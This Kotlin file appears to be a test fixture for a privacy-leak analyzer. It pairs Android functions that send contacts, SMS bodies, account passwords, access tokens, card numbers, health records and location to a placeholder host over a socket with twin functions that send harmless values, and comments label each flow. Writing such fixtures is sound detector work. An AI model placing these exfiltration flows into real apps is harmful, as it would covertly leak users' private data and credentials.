// Each sort of source, read and sent; beside it, the same source read and something else sent.
package flows.sources

import android.accounts.AccountManager
import android.content.ContentResolver
import android.content.Context
import android.content.SharedPreferences
import android.location.Location
import android.location.LocationManager
import android.net.wifi.WifiManager
import android.net.wifi.WifiInfo
import android.provider.ContactsContract
import android.provider.Settings
import android.provider.Telephony
import android.telephony.SmsMessage
import android.telephony.TelephonyManager
import androidx.health.connect.client.HealthConnectClient
import androidx.health.connect.client.records.HeartRateRecord
import com.google.android.gms.location.LocationServices
import com.stripe.android.model.CardParams
import java.net.PasswordAuthentication
import java.net.Socket

class Sources(private val context: Context, private val resolver: ContentResolver) {
    fun lastKnown(manager: LocationManager) {
        val last = manager.getLastKnownLocation("gps")
        Socket("a.example.com", 1).getOutputStream().write(last.toString().toByteArray()) // carries: location
    }

    fun lastKnownUnsent(manager: LocationManager) {
        val last = manager.getLastKnownLocation("gps")
        Socket("a.example.com", 1).getOutputStream().write("found: ${last != null}".toByteArray()) // carries: nothing
    }

    fun fused() {
        LocationServices.getFusedLocationProviderClient(context).lastLocation.addOnSuccessListener { place ->
            Socket("a.example.com", 1).getOutputStream().write("at ${place}".toByteArray()) // carries: location
        }
    }

    fun fusedUnsent() {
        LocationServices.getFusedLocationProviderClient(context).lastLocation.addOnSuccessListener { place ->
            Socket("a.example.com", 1).getOutputStream().write("ready".toByteArray()) // carries: nothing
        }
    }

    fun declared(where: Location) {
        Socket("a.example.com", 1).getOutputStream().write("${where.altitude}".toByteArray()) // carries: location
    }

    fun declaredUnsent(where: Location) {
        val known = where.hasAltitude()
        Socket("a.example.com", 1).getOutputStream().write("$known".toByteArray()) // carries: nothing
    }

    fun wifi() {
        val telephony = context.getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager
        Socket("a.example.com", 1).getOutputStream().write(telephony.deviceId.toByteArray()) // carries: device
    }

    fun wifiUnsent() {
        val telephony = context.getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager
        Socket("a.example.com", 1).getOutputStream().write(telephony.networkOperatorName.toByteArray()) // carries: nothing
    }

    fun androidId() {
        val id = Settings.Secure.getString(resolver, Settings.Secure.ANDROID_ID)
        Socket("a.example.com", 1).getOutputStream().write(id.toByteArray()) // carries: device
    }

    fun otherSetting() {
        val id = Settings.Secure.getString(resolver, Settings.Secure.DEFAULT_INPUT_METHOD)
        Socket("a.example.com", 1).getOutputStream().write(id.toByteArray()) // carries: nothing
    }

    fun address(info: WifiInfo) {
        Socket("a.example.com", 1).getOutputStream().write(info.macAddress.toByteArray()) // carries: device
    }

    fun addressUnsent(info: WifiInfo) {
        Socket("a.example.com", 1).getOutputStream().write(info.linkSpeed.toString().toByteArray()) // carries: nothing
    }

    fun people() {
        val rows = resolver.query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)
        rows!!.moveToFirst()
        Socket("a.example.com", 1).getOutputStream().write(rows.getString(0).toByteArray()) // carries: contacts
    }

    fun peopleUnsent() {
        val rows = resolver.query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)
        val any = rows!!.count
        Socket("a.example.com", 1).getOutputStream().write("$any".toByteArray()) // carries: nothing
    }

    fun texts() {
        val rows = resolver.query(Telephony.Sms.CONTENT_URI, null, null, null, null)
        Socket("a.example.com", 1).getOutputStream().write(rows!!.getString(2).toByteArray()) // carries: messages
    }

    fun otherRows(uri: android.net.Uri) {
        val rows = resolver.query(uri, null, null, null, null)
        Socket("a.example.com", 1).getOutputStream().write(rows!!.getString(2).toByteArray()) // carries: nothing
    }

    fun sms(message: SmsMessage) {
        Socket("a.example.com", 1).getOutputStream().write(message.messageBody.toByteArray()) // carries: messages
    }

    fun smsUnsent(message: SmsMessage) {
        Socket("a.example.com", 1).getOutputStream().write(message.protocolIdentifier) // carries: nothing
    }

    fun account() {
        val manager = AccountManager.get(context)
        val first = manager.getPassword(manager.getAccountsByType("example")[0])
        Socket("a.example.com", 1).getOutputStream().write(first.toByteArray()) // carries: credentials
    }

    fun accountUnsent() {
        val manager = AccountManager.get(context)
        val description = manager.authenticatorTypes
        Socket("a.example.com", 1).getOutputStream().write("$description".toByteArray()) // carries: nothing
    }

    fun proxy(asked: PasswordAuthentication) {
        Socket("a.example.com", 1).getOutputStream().write(String(asked.password).toByteArray()) // carries: credentials
    }

    fun proxyUnsent(asked: PasswordAuthentication) {
        Socket("a.example.com", 1).getOutputStream().write(asked.hashCode()) // carries: nothing
    }

    suspend fun heart(client: HealthConnectClient) {
        val records = client.readRecords(request())
        Socket("a.example.com", 1).getOutputStream().write(records.toString().toByteArray()) // carries: health
    }

    suspend fun heartUnsent(client: HealthConnectClient) {
        val granted = client.permissionController
        Socket("a.example.com", 1).getOutputStream().write(granted.toString().toByteArray()) // carries: nothing
    }

    fun beat(record: HeartRateRecord) {
        Socket("a.example.com", 1).getOutputStream().write("${record.samples}".toByteArray()) // carries: health
    }

    fun beatUnsent(record: HeartRateRecord) {
        Socket("a.example.com", 1).getOutputStream().write("${record.samples.size}".toByteArray()) // carries: nothing
    }

    fun card(given: CardParams) {
        Socket("a.example.com", 1).getOutputStream().write(given.number.toByteArray()) // carries: payment
    }

    fun cardUnsent(given: CardParams, order: String) {
        Socket("a.example.com", 1).getOutputStream().write(order.toByteArray()) // carries: nothing
    }

    fun typed(password: String) {
        Socket("a.example.com", 1).getOutputStream().write(password.toByteArray()) // carries: credentials?
    }

    fun typedUnsent(password: String) {
        if (password.isNotEmpty()) Socket("a.example.com", 1).getOutputStream().write(1) // carries: nothing
    }

    fun kept(preferences: SharedPreferences) {
        val value = preferences.getString("access_token", null)
        Socket("a.example.com", 1).getOutputStream().write(value!!.toByteArray()) // carries: credentials?
    }

    fun keptUnsent(preferences: SharedPreferences) {
        val value = preferences.getString("theme", null)
        Socket("a.example.com", 1).getOutputStream().write(value!!.toByteArray()) // carries: nothing
    }

    fun account(iban: String, amount: Int) {
        Socket("a.example.com", 1).getOutputStream().write("$iban $amount".toByteArray()) // carries: payment?
    }

    fun amount(iban: String, amount: Int) {
        Socket("a.example.com", 1).getOutputStream().write("$amount".toByteArray()) // carries: nothing
    }

    fun born(form: Map<String, String>) {
        Socket("a.example.com", 1).getOutputStream().write(form["dateOfBirth"]!!.toByteArray()) // carries: personal?
    }

    fun language(form: Map<String, String>) {
        Socket("a.example.com", 1).getOutputStream().write(form["language"]!!.toByteArray()) // carries: nothing
    }

    private fun request() = Any()
}
